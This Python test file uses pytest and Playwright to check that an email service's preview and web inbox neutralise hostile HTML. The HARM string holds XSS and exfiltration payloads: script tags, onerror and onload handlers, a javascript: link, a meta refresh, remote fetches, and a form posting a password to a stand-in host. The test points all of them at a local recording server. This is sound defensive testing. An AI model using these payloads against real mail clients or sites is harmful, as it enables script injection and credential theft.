"""HTML that means harm, shown in a real browser: it runs nothing, fetches nothing, sends nothing and goes nowhere."""

from __future__ import annotations

import smtplib
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from email.message import EmailMessage
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from uuid import uuid4

import pytest
from playwright.sync_api import Page, expect

from tests.embedded.running import RunningUp
from tests.end_to_end.browsing import log_in_as
from tests.end_to_end.conftest import NewContext, Service
from tests.end_to_end.scene import MAILBOX, first_steps, post

pytestmark = pytest.mark.timeout(600)

HARM = """
<style>@import url(FAR/import.css); @font-face { font-family: f; src: url(FAR/font.woff2) } body { font-family: f }
  #bg { background: url(FAR/style.png) }</style>
<link rel="stylesheet" href="FAR/sheet.css"><link rel="prefetch" href="FAR/prefetch"><base href="FAR/" target="_top">
<meta http-equiv="refresh" content="0; url=FAR/refresh">
<script>top.hacked = 1; parent.hacked = 1; fetch("FAR/script")</script><script src="FAR/script.js"></script>
<img src="FAR/picture.png"><img src=x onerror="top.hacked=1"><img srcset="FAR/set.png 1x">
<svg onload="top.hacked=1"><image href="FAR/svg.png"/><script>top.hacked=1</script></svg>
<iframe src="FAR/frame"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe>
<object data="FAR/object"></object><embed src="FAR/embed"><video src="FAR/video" poster="FAR/poster.png"></video>
<audio src="FAR/audio" autoplay></audio><div id="bg" style="background:url(FAR/inline.png)">x</div>
<table background="FAR/table.png"><tr><td background="FAR/cell.png">x</td></tr></table>
<form action="FAR/form" target="_top"><input name="password" value="secret"><button id="send">Log in</button></form>
<button formaction="FAR/button">Button</button>
<a href="javascript:top.hacked=1">A script</a> <a href="FAR/top" target="_top">To the top</a>
<h1>NAME</h1>
"""


@contextmanager
def far_away() -> Iterator[tuple[str, list[str]]]:
    """A server that the HTML would like to be asked; gives its address and what it was asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, format: str, *args: object) -> None:
            """Keeps quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", asked
    finally:
        server.shutdown()
        server.server_close()
        thread.join(30)


def bring(up: RunningUp, subject: str, html: str) -> None:
    """Mail from elsewhere, by port 25."""
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "Eve <eve@elsewhere.test>", MAILBOX, subject
    mail["Message-ID"] = f"<{uuid4()}@elsewhere.test>"
    mail.set_content(html, subtype="html")
    with smtplib.SMTP("127.0.0.1", up.ports["SMTP"], timeout=60) as smtp:
        smtp.send_message(mail, "eve@elsewhere.test", [MAILBOX])


def look(page: Page, name: str, frame_title: str) -> None:
    """It is there to read, and neither its buttons nor its links take this page anywhere."""
    frame = page.frame_locator(f"iframe[title='{frame_title}']")
    expect(frame.get_by_role("heading", name=name)).to_be_visible()
    page.wait_for_load_state("networkidle")
    here = page.url
    for harm in (frame.locator("#send"), frame.get_by_text("Button"), frame.get_by_text("A script")):
        if harm.count():
            harm.first.click()
    top = frame.get_by_text("To the top")
    if top.get_attribute("target") != "_blank":  # which would rightly open it
        top.click()
    assert page.url == here
    assert page.evaluate("window.hacked") is None


def let_all_in(page: Page, path: str, html: str) -> None:
    """As if nothing had been taken out: what the frame and its policy do alone."""
    page.route(path, lambda route: route.fulfill(response=route.fetch(), body=html))


@pytest.mark.parametrize("is_cleaned", [True, False], ids=["cleaned", "as it came"])
def test_harmful_html_does_nothing_in_the_preview_nor_in_the_web_inbox(
    new_browser_context: NewContext, service: Service, *, is_cleaned: bool
) -> None:
    name = f"Harm {uuid4().hex[:8]}"
    with far_away() as (far, asked):
        html = HARM.replace("FAR", far).replace("NAME", name)
        sender = f"Acme <hello@{first_steps(service.up)['domain']}>"
        email_id = post(service.up, "/v1/emails", {"from": sender, "to": MAILBOX, "subject": name, "html": html})["id"]
        page = new_browser_context().new_page()
        log_in_as(page, service.up, "owner")
        if not is_cleaned:
            let_all_in(page, "**/preview", html)
            let_all_in(page, "**/body", html)
        page.goto(f"/app/emails/{email_id}")
        look(page, name, "Preview of the email")
        assert asked == []

        bring(service.up, name, html)
        log_in_as(page, service.up, "mailbox")
        page.locator(".mail-row", has_text=name).first.get_by_role("link").click()
        look(page, name, "The message")
        assert asked == []
        page.goto(f"{far}/there")  # and one that goes there is seen there
        assert asked[0] == "/there"
